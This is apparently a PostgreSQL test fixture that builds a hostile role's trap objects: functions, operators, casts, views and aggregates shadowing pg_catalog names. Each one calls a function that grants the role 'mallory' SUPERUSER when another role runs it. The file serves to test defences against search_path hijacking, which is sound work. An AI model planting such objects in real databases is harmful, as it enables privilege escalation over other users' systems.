-- Objects of a hostile role, with the names that a program, a script or a page uses.  The tests that read this
-- file fill its tables with these names.  The role is "mallory".  It can create objects in "public".

-- Each object calls this.  If another role runs it, it notes that in a sequence, which no ROLLBACK
-- undoes, and in the server's log, and takes what it can get.
CREATE SEQUENCE public.evil_runs;
GRANT ALL ON SEQUENCE public.evil_runs TO PUBLIC;
CREATE FUNCTION public.evil(what text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
	IF current_user <> 'mallory' THEN
		PERFORM nextval('public.evil_runs');
		RAISE LOG 'evil: %', what;
		ALTER ROLE mallory SUPERUSER;
	END IF;
	RETURN true;
EXCEPTION WHEN OTHERS THEN
	RETURN true;
END$$;
CREATE FUNCTION public.evil_constant() RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
	$$BEGIN RETURN public.evil('a constant'); END$$;
CREATE FUNCTION public.evil_trigger() RETURNS trigger LANGUAGE plpgsql AS
	$$BEGIN PERFORM public.evil('a trigger'); RETURN NULL; END$$;

-- words, operators and types in the program's SQL, and a type of mallory's
CREATE TABLE public.evil_words (word text);
CREATE TABLE public.evil_operators (operator text);
CREATE TABLE public.evil_types (type text);
CREATE TYPE public.trap AS (n integer);

-- Types and views that have the names of those in pg_catalog
CREATE FUNCTION public.evil_names(schema text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
	name text;
	columns text;
BEGIN
	FOR name IN
		SELECT typname FROM pg_type, public.evil_words
		WHERE typname = word AND typtype = 'b' AND typnamespace = 'pg_catalog'::regnamespace
	LOOP
		EXECUTE format('CREATE DOMAIN %1$s.%2$I AS pg_catalog.%2$I CHECK (public.evil(''type %2$s''))', schema, name);
	END LOOP;
	FOR name, columns IN
		SELECT relname, string_agg(quote_ident(attname), ', ' ORDER BY attnum)
		FROM pg_class AS c JOIN public.evil_words ON relname = word JOIN pg_attribute ON attrelid = c.oid
		WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') AND atttypid <> 'anyarray'::regtype
		GROUP BY relname
	LOOP
		EXECUTE format('CREATE VIEW %1$s.%2$I AS SELECT %3$s, public.evil(''view %2$s'') FROM pg_catalog.%2$I', schema, name, columns);
	END LOOP;
END$$;

-- A function that calls evil()
CREATE FUNCTION public.evil_function(name text, arguments text, result text, what text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
BEGIN
	EXECUTE format('CREATE FUNCTION %s(%s) RETURNS %s LANGUAGE plpgsql AS %L', name, arguments, result,
		format('BEGIN PERFORM public.evil(%L); RETURN %s; END', what, CASE WHEN result <> 'record' THEN 'NULL' END));
END$$;

-- Functions with the names and arguments of those in pg_catalog, and with similar arguments, which may suit
-- better; operators for the pairs of types that such SQL could have: the same, a similar one, or a constant; casts from
-- and to the type of mallory's
CREATE FUNCTION public.evil_functions() RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
DECLARE
	this record;
BEGIN
	FOR this IN
		WITH used AS (
			SELECT proname AS name, prokind AS kind, proargtypes::regtype[]::text[] AS arguments,
				CASE WHEN t.typtype = 'p' THEN 'text' ELSE format_type(t.oid, NULL) END AS result
			FROM pg_proc JOIN pg_type AS t ON t.oid = prorettype
			WHERE pronamespace = 'pg_catalog'::regnamespace AND prokind IN ('f', 'a')
				AND (proname IN (SELECT word FROM public.evil_words) OR proname ~ 'advisory_xact_lock')
		), changed AS (
			SELECT name, kind, result, ARRAY(
				SELECT CASE WHEN a ~ '^any.*array' THEN type || '[]' WHEN a ~ '^"?any' THEN type WHEN a = old THEN new ELSE a END
				FROM unnest(arguments) WITH ORDINALITY AS of(a, n) ORDER BY n) AS arguments
			FROM used, public.evil_types, (VALUES (NULL, NULL), ('bigint', 'integer'), ('integer', 'bigint'),
				('text', 'name'), ('text', 'character varying'), ('name', 'text'), ('numeric', 'integer')) AS other(old, new)
		)
		SELECT DISTINCT ON (name, arguments) name, kind, result, arguments
		FROM (SELECT name, kind, result, array_to_string(arguments, ', ') AS arguments FROM changed) AS texts
		WHERE arguments !~ 'internal|cstring|trigger|record' AND to_regprocedure(format('public.%I(%s)', name, arguments)) IS NULL
	LOOP
		IF this.kind = 'f' THEN
			PERFORM public.evil_function(format('public.%I', this.name), this.arguments, this.result, format('%s of %s', this.name, this.arguments));
		ELSE
			PERFORM public.evil_function(format('public.evil_%s', this.name), concat_ws(', ', this.result, nullif(this.arguments, '')),
				this.result, format('%s of %s', this.name, this.arguments));
			EXECUTE format('CREATE AGGREGATE public.%I(%s) (SFUNC = public.%I, STYPE = %s)', this.name,
				coalesce(nullif(this.arguments, ''), '*'), 'evil_' || this.name, this.result);
		END IF;
	END LOOP;
	PERFORM public.evil_function('public.evil_' || result, format('%s, %s', a.type, b.type), result, format('operator of %s, %s', a.type, b.type))
	FROM public.evil_types AS a, public.evil_types AS b, unnest('{boolean,text,jsonb}'::text[]) AS result;
	FOR this IN
		SELECT operator, a.type AS a, b.type AS b,
			CASE WHEN operator ~ '^(->>|[|][|]|[+*/-])$' THEN 'text' WHEN operator ~ '->' THEN 'jsonb' ELSE 'boolean' END AS result
		FROM public.evil_operators, public.evil_types AS a, public.evil_types AS b
		WHERE operator IN (SELECT oprname FROM pg_operator)
			AND (a.type IN (b.type, 'text', 'integer') OR b.type IN ('text', 'integer')
				OR (SELECT typcategory FROM pg_type WHERE oid = a.type::regtype) = (SELECT typcategory FROM pg_type WHERE oid = b.type::regtype))
			AND to_regoperator(format('public.%s(%s,%s)', operator, a.type, b.type)) IS NULL
	LOOP
		EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.evil_%s)', this.operator, this.a, this.b, this.result);
	END LOOP;
	FOR this IN
		SELECT a, b, format('public.evil_cast_%s', replace(b::regtype::oid::text, ' ', '')) AS name
		FROM public.evil_types, LATERAL (VALUES (type, 'public.trap'), ('public.trap', type)) AS pair(a, b) WHERE a <> b
	LOOP
		PERFORM public.evil_function(this.name, this.a, this.b, format('cast of %s to %s', this.a, this.b));
		EXECUTE format('CREATE CAST (%1$s AS %2$s) WITH FUNCTION %3$s(%1$s) AS IMPLICIT', this.a, this.b, this.name);
	END LOOP;
END$$;
